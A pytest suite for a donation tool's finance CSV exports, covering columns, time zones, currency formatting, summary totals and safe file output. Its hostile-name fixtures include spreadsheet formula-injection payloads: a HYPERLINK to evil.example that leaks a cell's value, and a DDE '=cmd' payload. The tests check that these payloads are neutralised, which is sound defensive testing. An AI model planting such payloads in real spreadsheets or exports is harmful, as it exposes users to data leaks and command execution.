"""pledgectl export: finance CSV through COPY. Hostile names survive and are
neutralised, empty ranges give the header only, org-local day boundaries,
summary = detail to the cent after a simulated year, --out is whole or
absent, JPY/BHD formatting, stable columns, usage errors."""
import collections
import csv
import io
import os
import random
import resource
import signal
import subprocess
from decimal import Decimal

import pytest

from conftest import binary

# The documented columns (docs/exports.md): changing them breaks finance's
# spreadsheets and imports, so this list changes only with the docs.
COLUMNS = {
    'charges': ['charge_id', 'pledge_id', 'donor_id', 'donor_ref', 'donor_name', 'fund',
                'period', 'day', 'settled_at', 'status', 'amount', 'currency', 'refunded',
                'net', 'fee', 'gateway_ref', 'attempts', 'failure_code', 'decline_code'],
    'summary': ['day', 'currency', 'fund', 'status', 'charges', 'amount', 'refunded', 'net',
                'fee'],
    'refunds': ['refund_id', 'charge_id', 'pledge_id', 'donor_id', 'fund', 'kind', 'amount',
                'currency', 'status', 'reason', 'day', 'created_at', 'actor', 'gateway_ref'],
    'donors': ['donor_id', 'donor_ref', 'full_name', 'email', 'address_line1', 'address_line2',
               'city', 'region', 'postal_code', 'country', 'created_at', 'updated_at'],
    'pledges': ['pledge_id', 'pledge_ref', 'donor_id', 'donor_ref', 'amount', 'currency',
                'interval', 'interval_months', 'anchor', 'fund', 'status', 'start_on', 'end_on',
                'next_charge_on', 'failed_periods', 'created_at', 'cancelled_at',
                'cancel_reason'],
    'receipts': ['receipt_id', 'number', 'donor_id', 'donor_ref', 'tax_year', 'currency',
                 'total', 'status', 'issued_at', 'voided_at', 'void_reason', 'replaces'],
}
RANGE = ['--from', '2026-01-01', '--to', '2026-12-31']
DANGEROUS = ('=', '+', '-', '@', '\t', '\r')


def run(db, args, config=None, preexec=None):
    """pledgectl with bytes output (CSV may hold CR: no newline translation)."""
    argv = [binary('pledgectl')] + (['--config', config] if config else []) + [str(a) for a in args]
    return subprocess.run(argv, env=db.env, capture_output=True, timeout=300,
                          preexec_fn=preexec)


def parse(data):
    text = data.decode('utf-8') if isinstance(data, bytes) else data
    rows = list(csv.reader(io.StringIO(text, newline='')))
    return rows[0], [dict(zip(rows[0], r)) for r in rows[1:]]


def export(db, kind, *args, config=None):
    """Run an export to stdout; (header, rows as dicts)."""
    p = run(db, ['export', kind] + list(args), config)
    assert p.returncode == 0, (kind, args, p.returncode, p.stderr.decode())
    header, rows = parse(p.stdout)
    assert header == COLUMNS[kind]
    return rows


def tz_config(tmp_path, tz):
    conf = tmp_path / ('tz-%s.conf' % tz.replace('/', '_'))
    conf.write_text('[billing]\ntimezone = %s\n' % tz)
    return str(conf)


# ---- data helpers (SQL, like a year of billing would leave it) ------------

def add_donor(db, name, ref=None, email=None, city=''):
    return db.value('INSERT INTO donor (external_ref, full_name, email, city) '
                    'VALUES (%s, %s, %s, %s) RETURNING id', (ref, name, email, city))


def add_pledge(db, donor, amount, currency='USD', fund='general'):
    return db.value("INSERT INTO pledge (donor_id, amount_minor, currency, fund, start_on, "
                    "next_charge_on) VALUES (%s, %s, %s, %s, '2026-01-01', '2026-01-01') "
                    "RETURNING id", (donor, amount, currency, fund))


def add_charge(db, pledge, period, status='succeeded', at=None, refunded=0, fee=None,
               gateway_ref=None, failure=None, decline=None):
    """A charge of the pledge's amount; `at` (timestamptz text) settles it."""
    if status == 'succeeded' and at is None:
        at = '%s 12:00+00' % period
    return db.value(
        "INSERT INTO charge (pledge_id, donor_id, period, amount_minor, currency, fund, status, "
        "due_at, succeeded_at, refunded_minor, fee_minor, gateway_ref, failure_code, "
        "decline_code, skip_reason) SELECT id, donor_id, %s, amount_minor, currency, fund, %s, "
        "%s::date, %s, %s, %s, %s, %s, %s, CASE WHEN %s = 'skipped' THEN 'missed_window' END "
        "FROM pledge WHERE id = %s RETURNING id",
        (period, status, period, at if status == 'succeeded' else None, refunded, fee,
         gateway_ref, failure, decline, status, pledge))


def add_refund(db, charge, amount, at, kind='refund', status='succeeded', reason=None):
    """A refund row; a succeeded one also moves the charge's refunded_minor
    (what pledgectl charge refund and the webhooks do)."""
    rid = db.value("INSERT INTO refund (charge_id, amount_minor, kind, reason, status, "
                   "created_at, actor, gateway_ref) VALUES (%s, %s, %s, %s, %s, %s, "
                   "'pledgectl:test', 're_' || gen_random_uuid()) RETURNING id",
                   (charge, amount, kind, reason, status, at))
    if status == 'succeeded':
        db.execute('UPDATE charge SET refunded_minor = refunded_minor + %s WHERE id = %s',
                   (amount, charge))
    return rid


def money(text):
    return Decimal(text) if text != '' else Decimal(0)


# ---- hostile text ----------------------------------------------------------

NAMES = [
    'Smith, John',
    'The "Boss" O\'Brien',
    'Line one\nLine two',
    'Zoë Ünïcødé 日本語 🎁',
    '=HYPERLINK("http://evil.example/?x="&A1, "click")',
    '=1+2',
    '+1 555 0100',
    '-2+3',
    '@SUM(A1:A9)',
    '\tTabbed',
    '\rCarriage',
    'Plain Name',
    ' =not a formula (leading space)',
    "'already quoted",
]


def expected_cell(value):
    return "'" + value if value.startswith(DANGEROUS) else value


def test_hostile_names_survive_and_are_neutralised(db):
    ids = {}
    for i, name in enumerate(NAMES):
        d = add_donor(db, name, ref='%sREF-%d' % ('=' if i % 2 else '', i),
                      email='%sx%d@example.org' % ('-' if i % 3 == 0 else '', i),
                      city='@City, "Q"\n2')
        p = add_pledge(db, d, 1000 + i, fund='-general' if i % 2 else 'gen,eral "x"')
        ids[add_charge(db, p, '2026-03-01', gateway_ref='+ch_%d' % i,
                       failure='=fail' if i == 3 else None)] = (i, name)
    charges = export(db, 'charges', *RANGE)
    assert len(charges) == len(NAMES)
    for row in charges:
        i, name = ids[int(row['charge_id'])]
        assert row['donor_name'] == expected_cell(name)
        assert row['donor_ref'] == ("'=REF-%d" % i if i % 2 else 'REF-%d' % i)
        assert row['fund'] == ("'-general" if i % 2 else 'gen,eral "x"')
        assert row['gateway_ref'] == "'+ch_%d" % i
        assert row['failure_code'] == ("'=fail" if i == 3 else '')
        # numbers stay numbers: never prefixed
        assert row['amount'] == '%d.%02d' % ((1000 + i) // 100, (1000 + i) % 100)
        assert row['net'] == row['amount'] and row['refunded'] == '0.00'
    donors = export(db, 'donors')
    by_name = {r['full_name']: r for r in donors}
    for i, name in enumerate(NAMES):
        r = by_name[expected_cell(name)]
        assert r['email'] == ("'-x%d@example.org" % i if i % 3 == 0 else 'x%d@example.org' % i)
        assert r['city'] == '\'@City, "Q"\n2'
    pledges = export(db, 'pledges')
    assert {r['fund'] for r in pledges} == {"'-general", 'gen,eral "x"'}
    # no cell of any export starts like a formula (no amount here is negative)
    for kind, args in (('charges', RANGE), ('donors', []), ('pledges', []),
                       ('summary', RANGE)):
        for row in export(db, kind, *args):
            assert not any(v.startswith(DANGEROUS) for v in row.values()), row


def test_refund_reason_and_actor_neutralised(db):
    d = add_donor(db, 'Ada')
    c = add_charge(db, add_pledge(db, d, 2500), '2026-02-01')
    add_refund(db, c, 500, '2026-02-03 10:00+00', reason='=cmd|" /C calc"!A0')
    rows = export(db, 'refunds', *RANGE)
    assert len(rows) == 1
    assert rows[0]['reason'] == '\'=cmd|" /C calc"!A0'
    assert rows[0]['amount'] == '5.00' and rows[0]['kind'] == 'refund'
    assert rows[0]['actor'] == 'pledgectl:test'


# ---- empty ranges, columns -------------------------------------------------

@pytest.mark.parametrize('kind', sorted(COLUMNS))
def test_empty_range_gives_the_header_only(db, kind):
    d = add_donor(db, 'Someone')
    add_charge(db, add_pledge(db, d, 2500), '2026-05-01')
    p = run(db, ['export', kind, '--from', '2020-01-01', '--to', '2020-01-31'])
    assert p.returncode == 0, p.stderr
    assert p.stdout == (','.join(COLUMNS[kind]) + '\n').encode()


def test_sql_option_prints_one_copy_statement(db):
    for kind in COLUMNS:
        p = run(db, ['export', kind, '--sql'])
        assert p.returncode == 0
        sql = p.stdout.decode()
        assert sql.startswith('COPY (SELECT ') and sql.count('\n') == 1
        assert sql.rstrip().endswith('TO STDOUT (FORMAT csv, HEADER)')
        assert 'pl_export_params()' in sql


# ---- org time zone -----------------------------------------------------------

def test_org_timezone_day_boundary(db, tmp_path):
    ny = tz_config(tmp_path, 'America/New_York')
    d = add_donor(db, 'Night Owl')
    p = add_pledge(db, d, 5000)
    late = add_charge(db, p, '2026-12-31', at='2026-12-31 23:30-05')  # 04:30Z on Jan 1
    early = add_charge(db, add_pledge(db, d, 700), '2027-01-01', at='2027-01-01 00:00-05')
    add_refund(db, late, 1000, '2026-12-31 23:59:59.9-05')

    dec31 = ['--from', '2026-12-31', '--to', '2026-12-31']
    jan1 = ['--from', '2027-01-01', '--to', '2027-01-01']
    rows = export(db, 'charges', *dec31, config=ny)
    assert [int(r['charge_id']) for r in rows] == [late]
    assert rows[0]['day'] == '2026-12-31'
    assert rows[0]['settled_at'] == '2026-12-31T23:30:00-05:00'
    assert [int(r['charge_id']) for r in export(db, 'charges', *jan1, config=ny)] == [early]
    refunds = export(db, 'refunds', *dec31, config=ny)
    assert len(refunds) == 1 and refunds[0]['created_at'] == '2026-12-31T23:59:59-05:00'
    assert refunds[0]['day'] == '2026-12-31'
    assert export(db, 'refunds', *jan1, config=ny) == []
    summary = export(db, 'summary', '--from', '2026-12-31', '--to', '2027-01-01', config=ny)
    assert [(r['day'], r['amount'], r['net']) for r in summary] == [
        ('2026-12-31', '50.00', '40.00'), ('2027-01-01', '7.00', '7.00')]
    # the same gift in UTC belongs to 1 January
    rows = export(db, 'charges', *jan1)
    assert sorted(int(r['charge_id']) for r in rows) == sorted([late, early])
    assert {r['settled_at'] for r in rows} == {'2027-01-01T04:30:00+00:00',
                                              '2027-01-01T05:00:00+00:00'}
    # a zone east of UTC with a half-hour offset
    rows = export(db, 'charges', *jan1, config=tz_config(tmp_path, 'Asia/Kolkata'))
    assert {r['settled_at'] for r in rows} == {'2027-01-01T10:00:00+05:30',
                                              '2027-01-01T10:30:00+05:30'}


def test_unsettled_charges_are_in_range_by_period(db):
    d = add_donor(db, 'Decliner')
    p = add_pledge(db, d, 2500)
    failed = add_charge(db, p, '2026-06-30', status='failed', failure='card_declined',
                        decline='insufficient_funds')
    late = add_charge(db, p, '2026-07-31', at='2026-08-02 09:00+00')  # settled after dunning
    rows = export(db, 'charges', '--from', '2026-06-01', '--to', '2026-07-31')
    assert [int(r['charge_id']) for r in rows] == [failed]
    r = rows[0]
    assert (r['status'], r['settled_at'], r['net'], r['decline_code']) == (
        'failed', '', '0.00', 'insufficient_funds')
    rows = export(db, 'charges', '--from', '2026-08-01', '--to', '2026-08-31')
    assert [(int(r['charge_id']), r['period'], r['day']) for r in rows] == [
        (late, '2026-07-31', '2026-08-02')]


# ---- money formatting ------------------------------------------------------------

def test_currency_exponents(db):
    d = add_donor(db, 'Global')
    cases = [('USD', 2500, '25.00'), ('USD', 5, '0.05'), ('JPY', 2500, '2500'),
             ('JPY', 1, '1'), ('BHD', 1250, '1.250'), ('BHD', 7, '0.007'),
             ('CLF', 123456, '12.3456'), ('USD', 9223372036854775807, '92233720368547758.07')]
    for cur, minor, _ in cases:
        add_charge(db, add_pledge(db, d, minor, cur), '2026-04-01')
    rows = export(db, 'charges', *RANGE)
    assert [(r['currency'], r['amount']) for r in rows] == [(c, t) for c, _, t in cases]
    jpy = [r for r in rows if r['currency'] == 'JPY']
    assert all('.' not in r['net'] and '.' not in r['refunded'] for r in jpy)
    bhd = [r for r in rows if r['currency'] == 'BHD']
    assert [r['refunded'] for r in bhd] == ['0.000', '0.000']
    pledges = export(db, 'pledges')
    assert [(r['currency'], r['amount']) for r in pledges] == [(c, t) for c, _, t in cases]
    # the helper itself, negatives and the bigint edges included
    for minor, exp, want in [(-150, 2, '-1.50'), (-1, 3, '-0.001'), (0, 2, '0.00'), (0, 0, '0'),
                             (-9223372036854775808, 2, '-92233720368547758.08'),
                             (-9223372036854775808, 0, '-9223372036854775808'),
                             (100, 2, '1.00'), (123, 4, '0.0123'), (None, 2, None)]:
        assert db.value('SELECT pl_export_money((%s)::bigint, (%s)::smallint)', (minor, exp)) == want


# ---- a simulated year: summary equals detail -------------------------------------

CURRENCIES = {'USD': 2, 'EUR': 2, 'JPY': 0, 'BHD': 3}
FUNDS = ['general', 'scholarships', '=water, wells', 'Zoë "relief"']


def simulate_year(db, seed=2026):
    rnd = random.Random(seed)
    expect = collections.Counter()  # (currency, what) -> minor units, from the inputs
    refunds = collections.Counter()
    for i in range(40):
        d = add_donor(db, rnd.choice(NAMES) + ' #%d' % i, ref='D%03d' % i)
        cur = rnd.choice(sorted(CURRENCIES))
        amount = rnd.choice([1, 99, 1000, 2500, 12345, 100000])
        p = add_pledge(db, d, amount, cur, rnd.choice(FUNDS))
        hour_utc = rnd.choice(['00:15', '03:59', '04:30', '12:00', '23:45'])
        for month in range(1, 13):
            period = '2026-%02d-%02d' % (month, rnd.randint(1, 28))
            roll = rnd.random()
            status = ('succeeded' if roll < 0.8 else 'failed' if roll < 0.9 else
                      rnd.choice(['retry_wait', 'action_required', 'skipped', 'cancelled']))
            fee = rnd.choice([None, amount // 30]) if status == 'succeeded' else None
            c = add_charge(db, p, period, status, at='%s %s+00' % (period, hour_utc), fee=fee,
                           gateway_ref='ch_%d_%d' % (i, month) if status == 'succeeded' else None)
            if status == 'succeeded':
                expect[cur, 'gross'] += amount
                r = rnd.random()
                if r < 0.1:  # refunded in full, later
                    add_refund(db, c, amount, '%s 18:00+00' % period)
                    refunds[cur] += amount
                elif r < 0.2 and amount > 1:  # partly, in two steps, one a chargeback
                    a = amount // 3
                    add_refund(db, c, a, '%s 18:00+00' % period)
                    add_refund(db, c, a, '%s 19:00+00' % period, kind='chargeback')
                    add_refund(db, c, a, '%s 20:00+00' % period, status='failed')
                    refunds[cur] += 2 * a
    return expect, refunds


def sums(rows, key, cols=('amount', 'refunded', 'net', 'fee')):
    out = collections.defaultdict(lambda: collections.Counter())
    for r in rows:
        k = key(r)
        out[k]['charges'] += 1 if 'charges' not in r else int(r['charges'])
        for c in cols:
            out[k][c] += money(r[c])
    return out


@pytest.mark.parametrize('tz', ['UTC', 'America/New_York'])
def test_summary_equals_detail_after_a_year(db, tmp_path, tz):
    expect, refunds = simulate_year(db)
    conf = tz_config(tmp_path, tz)
    for extra in ([], ['--status', 'succeeded'], ['--status', 'failed,skipped'],
                  ['--fund', '=water, wells', '--fund', 'general']):
        for rng in (['--from', '2025-12-31', '--to', '2027-01-01'],
                    ['--from', '2026-03-01', '--to', '2026-06-30']):
            detail = export(db, 'charges', *rng, *extra, config=conf)
            summary = export(db, 'summary', *rng, *extra, config=conf)
            assert detail, (rng, extra)
            assert len({(r['day'], r['currency'], r['fund'], r['status']) for r in summary}) \
                == len(summary)
            by_group = lambda r: (r['day'], r['currency'], r['fund'], r['status'])  # noqa: E731
            assert sums(detail, by_group) == sums(summary, by_group)
            by_cur = lambda r: r['currency']  # noqa: E731
            assert sums(detail, by_cur) == sums(summary, by_cur)
            for r in summary:  # formatted by the currency's exponent
                for c in ('amount', 'refunded', 'net'):
                    frac = r[c].partition('.')[2]
                    assert len(frac) == CURRENCIES[r['currency']], r
    # the whole year against the inputs, to the minor unit
    detail = export(db, 'charges', '--from', '2025-12-31', '--to', '2027-01-01', config=conf)
    for cur, exp in CURRENCIES.items():
        ok = [r for r in detail if r['currency'] == cur and r['status'] == 'succeeded']
        gross = sum(money(r['amount']) for r in ok)
        net = sum(money(r['net']) for r in ok)
        assert gross == Decimal(expect[cur, 'gross']).scaleb(-exp)
        assert gross - net == Decimal(refunds[cur]).scaleb(-exp)
    # refunds export: succeeded refund rows add up to what the charges show refunded
    rows = export(db, 'refunds', '--from', '2025-12-31', '--to', '2027-01-01', '--status',
                  'succeeded', config=conf)
    for cur, exp in CURRENCIES.items():
        assert sum(money(r['amount']) for r in rows if r['currency'] == cur) == \
            Decimal(refunds[cur]).scaleb(-exp)
    assert {r['kind'] for r in rows} == {'refund', 'chargeback'}


def test_filters(db):
    d = add_donor(db, 'Filter')
    a = add_pledge(db, d, 100, fund='general')
    b = add_pledge(db, d, 200, fund='roof')
    ca = add_charge(db, a, '2026-01-10')
    cb = add_charge(db, b, '2026-01-10', status='failed')
    rng = ['--from', '2026-01-01', '--to', '2026-01-31']
    ids = lambda rows, k='charge_id': [int(r[k]) for r in rows]  # noqa: E731
    assert ids(export(db, 'charges', *rng, '--fund', 'roof')) == [cb]
    assert ids(export(db, 'charges', *rng, '--status', 'succeeded')) == [ca]
    assert ids(export(db, 'charges', *rng, '--status', 'failed', '--status', 'succeeded')) == \
        [ca, cb]
    assert ids(export(db, 'charges', *rng, '--fund', 'nope')) == []
    db.execute("UPDATE pledge SET status = 'cancelled', cancelled_at = now(), "
               "cancel_reason = '-moved away' WHERE id = %s", (b,))
    rows = export(db, 'pledges', '--status', 'cancelled')
    assert ids(rows, 'pledge_id') == [b] and rows[0]['cancel_reason'] == "'-moved away"
    assert ids(export(db, 'pledges', '--fund', 'general'), 'pledge_id') == [a]


def test_receipts_export(db):
    d = add_donor(db, 'Receipted', ref='R1')
    first = db.value("INSERT INTO receipt (number, donor_id, tax_year, currency, total_minor, "
                     "status, issued_at, voided_at, void_reason, donor_snapshot, org_snapshot) "
                     "VALUES ('2026-000001', %s, 2026, 'BHD', 12345, 'void', "
                     "'2027-01-05 10:00+00', '2027-01-06 10:00+00', '=wrong address', '{}', "
                     "'{}') RETURNING id", (d,))
    db.execute("INSERT INTO receipt (number, donor_id, tax_year, currency, total_minor, "
               "replaces_id, issued_at, donor_snapshot, org_snapshot) VALUES ('2026-000002', "
               "%s, 2026, 'BHD', 12345, %s, '2027-01-06 10:00+00', '{}', '{}')", (d, first))
    rows = export(db, 'receipts')
    assert [(r['number'], r['status'], r['total'], r['replaces'], r['void_reason'])
            for r in rows] == [('2026-000001', 'void', '12.345', '', "'=wrong address"),
                               ('2026-000002', 'issued', '12.345', '2026-000001', '')]
    assert rows[0]['voided_at'] == '2027-01-06T10:00:00+00:00'
    assert [r['number'] for r in export(db, 'receipts', '--status', 'issued')] == ['2026-000002']
    assert [r['number'] for r in export(db, 'receipts', '--from', '2027-01-06', '--to',
                                        '2027-01-06')] == ['2026-000002']


# ---- output: --out, stdout, BOM, CRLF ------------------------------------------------

def year_of_charges(db, n=300):
    """n succeeded charges in 2026 (365 per pledge), amounts 10.00 + i cents."""
    d = add_donor(db, 'Bulk, "Donor"\nwith lines')
    pledges = [add_pledge(db, d, 2500) for _ in range((n + 364) // 365)]
    db.execute("INSERT INTO charge (pledge_id, donor_id, period, amount_minor, currency, fund, "
               "status, due_at, succeeded_at) SELECT (%s::bigint[])[g / 365 + 1], %s, "
               "date '2026-01-01' + g %% 365, 1000 + g, 'USD', 'general', 'succeeded', "
               "date '2026-01-01' + g %% 365, date '2026-01-01' + g %% 365 + time '12:00' "
               "FROM generate_series(0, %s) g", (pledges, d, n - 1))


def test_out_file_equals_stdout(db, tmp_path):
    year_of_charges(db)
    target = tmp_path / 'charges.csv'
    p = run(db, ['export', 'charges', *RANGE, '--out', target])
    assert p.returncode == 0, p.stderr
    assert target.read_bytes() == run(db, ['export', 'charges', *RANGE]).stdout
    assert oct(target.stat().st_mode & 0o777) == '0o600'
    assert os.listdir(tmp_path) == ['charges.csv']
    assert len(parse(target.read_bytes())[1]) == 300
    # '-' is stdout
    assert run(db, ['export', 'charges', *RANGE, '--out', '-']).stdout == target.read_bytes()


def test_bom_and_crlf(db):
    year_of_charges(db, 3)
    plain = run(db, ['export', 'charges', *RANGE]).stdout
    p = run(db, ['export', 'charges', *RANGE, '--bom', '--crlf'])
    assert p.returncode == 0
    assert p.stdout.startswith(b'\xef\xbb\xbf' + b'charge_id,')
    body = p.stdout[3:]
    assert body.count(b'\r\n') == 4  # header and three rows; the newline in a name stays LF
    assert body.replace(b'\r\n', b'\n') == plain
    assert parse(body.decode())[1] == parse(plain)[1]


def test_out_refuses_to_overwrite_without_force(db, tmp_path):
    year_of_charges(db, 5)
    target = tmp_path / 'charges.csv'
    target.write_bytes(b'filed last month\n')
    p = run(db, ['export', 'charges', *RANGE, '--out', target])
    assert p.returncode == 4 and b'--force' in p.stderr
    assert target.read_bytes() == b'filed last month\n'
    p = run(db, ['export', 'charges', *RANGE, '--out', target, '--force'])
    assert p.returncode == 0, p.stderr
    assert len(parse(target.read_bytes())[1]) == 5
    assert sorted(os.listdir(tmp_path)) == ['charges.csv']


def break_money_at(db, minor):
    """Make the export fail on the row whose amount is `minor`: a
    replacement pl_export_money that raises there. VOLATILE, so PostgreSQL
    calls it after the sort, row by row: the rows before it have streamed."""
    db.execute("CREATE OR REPLACE FUNCTION pl_export_money(amount_minor bigint, "
               "exponent smallint) RETURNS text LANGUAGE plpgsql VOLATILE AS $$ BEGIN "
               "IF amount_minor = %s THEN RAISE EXCEPTION 'disk on fire at %%', amount_minor; "
               "END IF; RETURN (amount_minor::numeric / 100)::text; END $$", (minor,))


def test_failed_export_leaves_no_file(db, tmp_path):
    year_of_charges(db, 3000)
    break_money_at(db, 1000 + 2500)
    # to stdout the failure is mid-stream: rows were already sent
    p = run(db, ['export', 'charges', *RANGE])
    assert p.returncode == 1 and b'disk on fire at 3500' in p.stderr
    assert p.stdout.count(b'\n') > 100
    # to a file: nothing, not even a temporary file
    target = tmp_path / 'charges.csv'
    p = run(db, ['export', 'charges', *RANGE, '--out', target])
    assert p.returncode == 1 and b'nothing was written' in p.stderr
    assert os.listdir(tmp_path) == []
    # replacing: the old file stays as it was
    target.write_bytes(b'old\n')
    p = run(db, ['export', 'charges', *RANGE, '--out', target, '--force'])
    assert p.returncode == 1
    assert target.read_bytes() == b'old\n' and os.listdir(tmp_path) == ['charges.csv']


def test_write_failure_leaves_no_file(db, tmp_path):
    year_of_charges(db, 3000)

    def small_files():  # writes past 64 KiB fail with EFBIG
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (64 * 1024, 64 * 1024))

    target = tmp_path / 'charges.csv'
    p = run(db, ['export', 'charges', *RANGE, '--out', target], preexec=small_files)
    assert p.returncode == 1, p.stderr
    assert b'nothing was written' in p.stderr
    assert os.listdir(tmp_path) == []


def test_out_into_a_missing_directory(db, tmp_path):
    p = run(db, ['export', 'donors', '--out', tmp_path / 'nope' / 'donors.csv'])
    assert p.returncode == 1 and b'cannot write' in p.stderr


# ---- usage ------------------------------------------------------------------------

@pytest.mark.parametrize('args', [
    ['export'],
    ['export', 'payouts'],
    ['export', 'charges'],
    ['export', 'charges', '--from', '2026-01-01'],
    ['export', 'summary', '--to', '2026-01-01'],
    ['export', 'charges', '--from', '2026-02-01', '--to', '2026-01-01'],
    ['export', 'charges', '--from', '2026-02-30', '--to', '2026-03-01'],
    ['export', 'charges', '--from', '1/2/2026', '--to', '2026-03-01'],
    ['export', 'charges', *RANGE, '--status', 'paid'],
    ['export', 'charges', *RANGE, '--status', ','],
    ['export', 'refunds', *RANGE, '--status', 'scheduled'],
    ['export', 'donors', '--status', 'active'],
    ['export', 'donors', '--fund', 'general'],
    ['export', 'receipts', '--fund', 'general'],
    ['export', 'charges', *RANGE, '--force'],
    ['export', 'charges', *RANGE, 'extra'],
    ['export', 'charges', *RANGE, '--bogus'],
])
def test_usage_errors(db, args):
    p = run(db, args)
    assert p.returncode == 2, (args, p.returncode, p.stderr)
    assert p.stdout == b''
    assert p.stderr


def test_help(db):
    p = run(db, ['export', '--help'])
    assert p.returncode == 0
    for kind in COLUMNS:
        assert kind.encode() in p.stdout
